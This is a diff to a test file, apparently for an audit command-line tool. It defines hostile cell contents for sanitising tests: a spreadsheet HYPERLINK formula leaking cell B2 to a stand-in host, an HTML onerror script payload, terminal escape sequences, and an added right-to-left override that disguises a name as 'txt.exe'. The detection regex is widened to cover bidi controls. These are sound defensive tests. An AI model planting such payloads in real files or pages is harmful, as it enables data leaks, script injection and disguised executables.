@@ -27,10 +27,10 @@ from audit.cli import main
 
 FORMULA = '=HYPERLINK("http://x/?leak="&B2,"Klik")'
 MARKUP = "</table><img src=x onerror=alert(1)>"
-ESCAPES = "\x1b[2J\x1b]0;pwned\x07\x9b31m\x0b\x08"
+ESCAPES = "\x1b[2J\x1b]0;pwned\x07\x9b31m\x0b\x08\u202etxt.exe"  # the last reorders what follows
 HOSTILE = FORMULA + MARKUP + "|a\nb" + ESCAPES  # a cell: formula, markup, pipe, newline, terminal escapes
 INLINE = FORMULA + MARKUP + ESCAPES  # the same in a document's table cell (a tab or newline would end it)
-TERMINAL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # what no terminal text may carry (tab, newline aside)
+TERMINAL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")  # not for a terminal
 XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")  # what XML 1.0 (HTML, JUnit, xlsx) cannot carry
 LABEL = "Kegiatan 13 Koordinasi Upaya Penyelenggaraan Ketenteraman dan Ketertiban Umum"
 
